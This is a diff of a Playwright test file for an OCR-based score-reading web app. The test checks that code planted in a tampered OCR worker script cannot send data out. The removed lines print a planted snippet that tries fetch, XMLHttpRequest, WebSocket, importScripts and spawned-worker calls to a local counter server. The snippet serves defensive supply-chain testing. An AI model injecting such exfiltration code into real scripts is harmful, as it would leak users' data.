@@ -1,8 +1,7 @@
 import { readFileSync } from 'node:fs'
-import { createServer, type Server } from 'node:http'
-import type { AddressInfo } from 'node:net'
-import { expect, type Page, test } from '@playwright/test'
-import { pick, visit } from './support'
+import { expect, type Page } from '@playwright/test'
+import { planted, test, workerWays } from './planted'
+import { pick, untilKept, visit } from './support'
 
 /** A photo of the outcome: score 269, passed. */
 const photo = 'fixtures/pictures/photo-outcome.jpg'
@@ -19,14 +18,6 @@ async function readTo(page: Page, score: number) {
   if (page.url().includes('/check/')) await page.keyboard.press('a')
   await page.waitForURL(/\/report\//)
   await expect(page.getByRole('main')).toContainText(String(score))
-}
-
-async function untilKept(page: Page) {
-  await page.evaluate(async () => {
-    await navigator.serviceWorker.ready
-    if (!navigator.serviceWorker.controller)
-      await new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', resolve))
-  })
 }
 
 test.describe('pictures', () => {
@@ -103,49 +94,17 @@ test.describe('pictures', () => {
   })
 })
 
-test.describe('code planted inside the recognition cannot send anything', () => {
-  let server: Server
-  let hits: string[]
-  let address: string
-  test.beforeEach(async () => {
-    hits = []
-    server = createServer((request, response) => {
-      hits.push(request.url ?? '')
-      response.setHeader('Access-Control-Allow-Origin', '*')
-      response.end()
-    })
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
-    address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+test('code planted inside the recognition cannot send anything while it reads', async ({ page, context, counter }) => {
+  let planting = 0
+  // The recognition's own script, with more in front: as if its package had been tampered with.
+  await context.route(/\/ocr\/worker\.min\.js/, async (route) => {
+    const body = readFileSync('out/ocr/worker.min.js', 'utf8')
+    planting++
+    await route.fulfill({ contentType: 'text/javascript', body: planted(workerWays, counter.address) + body })
   })
-  test.afterEach(async () => {
-    server.closeAllConnections()
-    await new Promise((resolve) => server.close(resolve))
-  })
-
-  test('while it reads', async ({ page, context }) => {
-    const planted = (to: string) => `
-      ;(() => {
-        const to = ${JSON.stringify(to)}
-        const tries = [
-          () => fetch(to + '/fetch', { method: 'POST', body: 'x', mode: 'no-cors' }),
-          () => { const r = new XMLHttpRequest(); r.open('POST', to + '/request'); r.send('x') },
-          () => new WebSocket(to.replace('http', 'ws') + '/socket'),
-          () => importScripts(to + '/script'),
-          () => new Worker(URL.createObjectURL(new Blob(["fetch('" + to + "/worker', { mode: 'no-cors' })"]))),
-        ]
-        for (const attempt of tries) try { Promise.resolve(attempt()).catch(() => {}) } catch {}
-      })();`
-    let planting = 0
-    // The recognition's own script, with more in front: as if its package had been tampered with.
-    await context.route(/\/ocr\/worker\.min\.js/, async (route) => {
-      const body = readFileSync('out/ocr/worker.min.js', 'utf8')
-      planting++
-      await route.fulfill({ contentType: 'text/javascript', body: planted(address) + body })
-    })
-    await visit(page, '/')
-    await pick(page, screenshot)
-    await readTo(page, truth(screenshot).score)
-    expect(planting).toBeGreaterThan(0)
-    expect(hits).toEqual([])
-  })
+  await visit(page, '/')
+  await pick(page, screenshot)
+  await readTo(page, truth(screenshot).score)
+  expect(planting).toBeGreaterThan(0)
+  await counter.expectNone()
 })
